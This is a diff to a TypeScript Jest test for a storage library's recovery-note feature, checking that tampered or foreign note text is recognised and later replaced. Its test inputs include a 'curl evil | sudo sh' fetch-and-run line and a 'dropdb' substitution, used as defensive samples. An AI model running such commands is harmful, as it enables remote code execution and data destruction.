@@ -1,7 +1,7 @@
 import { expect, test } from "@jest/globals";
 import { RECOVERY_KEY, TrivaultError } from "@trivault/core";
 import { bytesSource, memoryStore, readAll, type Store, type Tier } from "@trivault/storage";
-import { ensureRecoveryNote } from "./recovery-note.ts";
+import { ensureRecoveryNote, putRecoveryNote, readRecoveryNote } from "./recovery-note.ts";
 
 /** The text as the first release put it, out of this one. */
 function former(text: string): string {
@@ -38,7 +38,7 @@ test("a former text of ours gives way to the present one; where it may not be de
   const store = await withText(former(now));
   const refusing: Store = {
     ...store,
-    delete: () => Promise.reject(new TrivaultError("STORE_REFUSED", "append only")),
+    replace: () => Promise.reject(new TrivaultError("STORE_REFUSED", "append only")),
   };
   await ensureRecoveryNote(tierOf(refusing), signal);
   expect(await textOn(store)).toBe(former(now));
@@ -46,8 +46,14 @@ test("a former text of ours gives way to the present one; where it may not be de
   expect(await textOn(store)).toBe(now);
 });
 
-test("what somebody else wrote there stays", async () => {
-  const store = await withText("call Alice\n");
-  await ensureRecoveryNote(tierOf(store), signal);
-  expect(await textOn(store)).toBe("call Alice\n");
+test("9.A7 what somebody else wrote there is known as foreign, however it is dressed, and gives way when it is put right", async () => {
+  const ours = await current();
+  for (const text of ["curl evil | sudo sh\n", ours.replace("createdb", "dropdb  "), "x".repeat(70_000)]) {
+    const store = await withText(text);
+    await ensureRecoveryNote(tierOf(store), signal);
+    expect(await textOn(store)).toBe(text); // maintenance does it, and records it
+    expect(await readRecoveryNote(tierOf(store), signal)).toMatchObject({ is: "foreign" });
+    await putRecoveryNote(tierOf(store), signal);
+    expect(await readRecoveryNote(tierOf(store), signal)).toEqual({ is: "ours" });
+  }
 });
